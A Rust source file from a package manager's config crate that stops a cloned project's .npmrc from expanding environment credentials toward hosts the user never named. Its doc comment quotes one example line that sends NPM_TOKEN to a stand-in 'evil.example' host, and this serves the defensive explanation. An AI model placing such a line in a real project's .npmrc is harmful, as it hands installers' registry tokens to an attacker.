//! What a project's `.npmrc` may do with the environment.
//!
//! A project is somebody else's text. With npm, `//evil.example/:_authToken=${NPM_TOKEN}` in a cloned repository sends
//! the token of whoever runs `install` to a host of the author's choice (CVE-2025-69262 is this in another package
//! manager). The rule here:
//!
//! - A host is **named by the user** when it is npm's public registry, or stands in a registry URL, a credential's key
//!   or `trusted-registries` in flags, environment, the user's or the global `.npmrc`.
//! - In the project's `.npmrc`, a credential into which a variable was expanded counts only for such a host. For any
//!   other it is withheld: requests go out without it, a warning says so, and an authentication error can say why.
//! - A registry or proxy URL of the project's `.npmrc` into which a variable was expanded is refused unless its host
//!   is such a host, or the variable itself supplied scheme and host (`registry=${CI_REGISTRY}`): then the environment
//!   named it. `user-agent` and `tag`, which go to every registry, take no variables from there at all.
//! - Whatever decides on trust is never read from the project's file: `trusted-registries`, `userconfig`,
//!   `globalconfig`, `prefix`.
//!
//! Literal credentials in a project's file stay usable for any host: they hold nothing that the author did not know.
//! A host is a name with its port, without scheme and path. On which ways credentials travel: [`crate::routes`].

use std::collections::BTreeSet;

use url::{Position, Url};
use utoo_types::RegistryHosts;

use crate::error::ConfigError;
use crate::layers::Layer;
use crate::public::public_registry;
use crate::sources::{Found, Sources};
use crate::value;

/// The hosts that the user's own layers name.
#[derive(Debug)]
pub(crate) struct TrustedHosts(BTreeSet<String>);

impl TrustedHosts {
    pub(crate) fn collect(sources: &Sources) -> Self {
        let mut hosts = BTreeSet::from([host_of_url(&public_registry())]);
        for layer in sources.layers.iter().filter(|data| data.layer.is_trusted()) {
            for (key, setting) in &layer.settings {
                if key == "registry" || key.ends_with(":registry") {
                    hosts.extend(value::registry_url(setting.text()).map(|url| host_of_url(&url)));
                } else if key == "trusted-registries" {
                    hosts.extend(setting.values.iter().flat_map(|value| value.split(',')).map(host_of_text));
                } else if let Some(path) = key.strip_prefix("//") {
                    hosts.insert(host_of_text(path));
                }
            }
        }
        hosts.remove("");
        Self(hosts)
    }

    /// Whether a credential's key, `//host/path/`, is for a host that the user names.
    pub(crate) fn has_path(&self, path: &str) -> bool {
        self.0.contains(&host_of_text(path))
    }

    /// Refuses a URL of the project's file that would carry a variable to a host only that file names.
    pub(crate) fn check_url(&self, key: &str, found: Found<'_>, url: &Url) -> Result<(), ConfigError> {
        let Some(first) = found.setting.used.first().filter(|_| found.data.layer == Layer::Project) else {
            return Ok(());
        };
        // Compared in the text as written: where the first variable also covers the end of the host.
        let text = found.setting.text();
        let authority_end = text.find("://").map_or(0, |scheme| {
            let start = scheme + 3;
            text[start..].find(['/', '?', '#']).map_or(text.len(), |length| start + length)
        });
        let environment_names_it = first.start == 0 && authority_end > 0 && first.end >= authority_end;
        if environment_names_it || self.0.contains(&host_of_url(url)) {
            return Ok(());
        }
        Err(untrusted(key, found))
    }
}

/// Refuses a project's value that goes to every registry and holds a variable.
pub(crate) fn refuse_variables(key: &str, found: Found<'_>) -> Result<(), ConfigError> {
    if found.data.layer == Layer::Project && !found.setting.used.is_empty() {
        return Err(untrusted(key, found));
    }
    Ok(())
}

fn untrusted(key: &str, found: Found<'_>) -> ConfigError {
    ConfigError::UntrustedExpansion {
        origin: found.setting.origin.clone(),
        key: key.to_owned(),
        variable: found.setting.used.first().map(|used| used.name.clone()).unwrap_or_default(),
    }
}

/// The hosts of these registries, and those that the user's own layers name otherwise.
pub(crate) fn registry_hosts<'a>(
    registries: impl Iterator<Item = &'a Url>,
    trusted: &TrustedHosts,
) -> RegistryHosts {
    RegistryHosts::new(registries.map(host_of_url).chain(trusted.0.iter().cloned()))
}

pub(crate) fn host_of_url(url: &Url) -> String {
    url[Position::BeforeHost..Position::AfterPort].to_ascii_lowercase()
}

/// The host in `//host/path`, `host`, `host:port` or a whole URL.
fn host_of_text(text: &str) -> String {
    let text = text.trim();
    if let Ok(url) = Url::parse(text)
        && url.has_host()
    {
        return host_of_url(&url);
    }
    let rest = text.trim_start_matches('/');
    let end = rest.find('/').unwrap_or(rest.len());
    let host = &rest[..end];
    // `//host:_authToken`: the last colon begins the credential's name, not a port.
    let host = match host.rsplit_once(':') {
        Some((name, port)) if !port.bytes().all(|byte| byte.is_ascii_digit()) => name,
        _ => host,
    };
    host.to_ascii_lowercase()
}
